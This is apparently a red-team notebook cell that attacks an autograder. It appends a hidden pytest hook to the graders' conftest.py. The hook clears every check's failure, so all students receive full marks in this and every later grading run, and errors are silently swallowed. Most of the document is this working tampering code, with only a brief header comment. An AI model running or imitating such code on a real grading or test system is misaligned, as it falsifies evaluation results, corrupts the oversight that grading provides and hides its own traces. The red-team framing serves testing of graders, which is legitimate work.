# Red-team attack 02 (issue 7): rewrite the hidden graders.
# The graders are pytest files in autograder/graders/; the grader process runs them after every
# worker has ended. This cell appends a pytest hook to their conftest.py that clears every
# check's failure before pytest builds its report, so every check of every student passes:
# full marks for everyone, in this grading run and every later one. On a stub notebook.

HOOK = '''

import pytest as _pytest_for_full_marks


@_pytest_for_full_marks.hookimpl(hookwrapper=True, tryfirst=True)
def pytest_runtest_makereport(item, call):
    call.excinfo = None  # whatever the check raised, pytest reports it passed
    yield
'''


def _rewrite_graders():
    import os
    import sys
    from pathlib import Path

    folders = []
    package = sys.modules.get("autograder")
    if package is not None and getattr(package, "__file__", None):
        folders.append(Path(package.__file__).resolve().parent / "graders")
    here = Path(os.getcwd()).resolve()
    for folder in [here, *here.parents]:
        if (folder / "autograder" / "graders").is_dir():
            folders.append(folder / "autograder" / "graders")
            break
    for folder in dict.fromkeys(folders):
        try:
            conftest = folder / "conftest.py"
            if "_pytest_for_full_marks" not in conftest.read_text():
                with conftest.open("a") as handle:
                    handle.write(HOOK)
        except Exception:
            pass


try:
    _rewrite_graders()
except Exception:
    pass
